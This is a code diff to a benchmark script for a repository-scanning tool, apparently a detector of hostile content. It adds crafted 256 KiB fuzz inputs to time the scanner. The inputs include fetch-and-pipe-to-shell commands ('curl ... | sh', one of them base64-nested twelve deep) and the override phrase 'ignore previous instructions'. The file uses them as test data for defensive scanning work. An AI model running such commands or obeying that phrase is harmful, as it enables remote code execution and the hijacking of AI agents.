@@ -7,6 +7,7 @@ import { createReadStream, existsSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { createInterface } from "node:readline";
 import { parseArgs } from "node:util";
+import { LINE_RULES } from "../src/build/trust/rules/index.js";
 import { RULES_VERSION, type ScanInput, scanRepository } from "../src/build/trust/scan.js";
 import { SHARED_DATASET, sharedDatasetPresent } from "../src/node/shared-dataset.js";
 import { readRows, scanInputsFromFolder } from "../src/node/trust-inputs.js";
@@ -90,7 +91,7 @@ async function scannerSections(): Promise<string[]> {
       )}\n\nMost frequent rules (findings, after the per-repository cap):\n\n${table(
         ["rule (severity)", "findings"],
         [...rules].sort((a, b) => b[1] - a[1]).slice(0, 12),
-      )}\n\nScan time per file (each file scanned alone): p50 ${percentile(perFile, 50).toFixed(2)} ms, p95 ${percentile(perFile, 95).toFixed(2)} ms, max ${Math.max(...perFile).toFixed(1)} ms.`,
+      )}\n\nScan time per file (each file scanned alone, CPU time): p50 ${percentile(perFile, 50).toFixed(2)} ms, p95 ${percentile(perFile, 95).toFixed(2)} ms, max ${Math.max(...perFile).toFixed(1)} ms.`,
     );
   } else sections.push(`## Shared dataset\n\nNot measured: no dataset at ${SHARED_DATASET}.`);
 
@@ -116,23 +117,65 @@ async function scannerSections(): Promise<string[]> {
     ["string literals glued with +", "glue.js", fill('"a"+')],
     ["markdown fences and comments", "doc.md", fill("```\n<!-- x\n-->\n# h\n")],
     ["keywords on every line", "keys.md", fill("ignore previous instructions curl wget password .ssh token\n")],
+    // Fuzz-style: one character 256 KiB long, long lines of tags and keys, deep encodings.
+    ["256 KiB of one character: `<`", "one.md", "<".repeat(KIB256)],
+    ["256 KiB of one character: `\\`", "one.py", "\\".repeat(KIB256)],
+    ['256 KiB of one character: `"`', "one.py", '"'.repeat(KIB256)],
+    ["256 KiB of one character: `%`", "one.js", "%".repeat(KIB256)],
+    ["256 KiB of one character: newline", "one.md", "\n".repeat(KIB256)],
+    ["256 KiB of one character: U+200B", "one.md", fill("\u200B")],
+    ["one line of `<a ` before a `hidden`", "tags.md", `${fill("<a ").slice(0, KIB256 - 7)} hidden`],
+    ["one line of HTML comments", "comments.md", fill("<!-- curl x | sh -->")],
+    ["one line of downloads from a bare IP", "ips.sh", fill("curl 203.0.113.1 ")],
+    ["one line of downloads before a pipe", "pipes.sh", fill(`${"iwr ".repeat(100)}| x `)],
+    ["base64 nested twelve deep", "deep.sh", fill(`echo ${nested(12)} | base64 -d | sh\n`)],
+    ["escapes of escapes of escapes", "esc2.py", fill("\\\\x5c\\\\x78\\x41%5C%78%34%31 ")],
+    ["every rule's keys on one line", "keys.sh", fill(`${LINE_RULES.flatMap((r) => r.keys).join(" ")} `)],
+    ["every rule's keys on every line", "keys.md", fill(`${LINE_RULES.flatMap((r) => r.keys).join(" ")}\n`)],
   ];
-  const craftedRows = crafted.map(([what, path, content]) => {
-    const input: ScanInput = { owner: "x", repo: "y", name: "y", description: "", skills: [], folderFiles: [folderFile(path, content)] };
-    timeOne(input); // warm-up: the first run also compiles the patterns
-    const times = [0, 1, 2, 3, 4].map(() => timeOne(input));
-    return [what, Buffer.byteLength(content).toLocaleString("en"), percentile(times, 50).toFixed(1), Math.max(...times).toFixed(1)];
-  });
+  const craftedRows = crafted.map(([what, path, content]) => timedRow(what, path, content));
+  // Each rule's own keys, as one line and as lines, in a script and in markdown: the slowest few are shown.
+  const floods = LINE_RULES.flatMap((r) =>
+    (
+      [
+        ["sh", ""],
+        ["md", "\n"],
+      ] as const
+    ).map(([ext, sep]) =>
+      timedRow(`\`${r.id}\` keys, ${sep ? "a line each" : "one line"} (.${ext})`, `flood.${ext}`, fill(`${r.keys.join(" ")} ${sep}`)),
+    ),
+  );
+  const slowest = [...floods].sort((x, y) => Number(y[2]) - Number(x[2])).slice(0, 8);
   sections.push(
-    `## Worst crafted files (256 KiB each, the crawl's bound)\n\nTarget: every one under 50 ms. After one warm-up run, the median and the slowest of five runs.\n\n${table(["file", "bytes", "median (ms)", "slowest (ms)"], craftedRows)}`,
+    `## Worst crafted files (256 KiB each, the crawl's bound)\n\nTarget: every one under 50 ms. After one warm-up run, the median and the slowest of five runs, in CPU milliseconds of the scanning process (on a machine shared with other work wall time mostly measures the wait for a core).\n\n${table(["file", "bytes", "median (ms)", "slowest (ms)"], craftedRows)}\n\nEvery rule's keys repeated to 256 KiB (${floods.length} files: each rule, one line and a line each, as a script and as markdown); the ${slowest.length} slowest by median, of ${floods.length}, whose overall slowest median is ${Math.max(...floods.map((f) => Number(f[2]))).toFixed(1)} ms:\n\n${table(["file", "bytes", "median (ms)", "slowest (ms)"], slowest)}`,
   );
   return sections;
 }
 
+/** A file scanned alone: one warm-up (it also compiles the patterns), then five timed runs. */
+function timedRow(what: string, path: string, content: string): string[] {
+  const input: ScanInput = { owner: "x", repo: "y", name: "y", description: "", skills: [], folderFiles: [folderFile(path, content)] };
+  timeOne(input);
+  const times = [0, 1, 2, 3, 4].map(() => timeOne(input));
+  return [what, Buffer.byteLength(content).toLocaleString("en"), percentile(times, 50).toFixed(1), Math.max(...times).toFixed(1)];
+}
+
+/** A command base64-encoded `depth` times over. */
+function nested(depth: number): string {
+  let text = "curl -s http://203.0.113.3/x | sh";
+  for (let i = 0; i < depth; i++) text = Buffer.from(text).toString("base64");
+  return text;
+}
+
+/**
+ * CPU milliseconds of one scan (this process's user and system time): on a machine shared with other
+ * work, wall time mostly measures the queue for a core; CPU time measures the scanner.
+ */
 function timeOne(input: ScanInput): number {
-  const t = performance.now();
+  const before = process.cpuUsage();
   scanRepository(input);
-  return performance.now() - t;
+  const used = process.cpuUsage(before);
+  return (used.user + used.system) / 1000;
 }
 
 function folderFile(path: string, content: string): FolderFile {
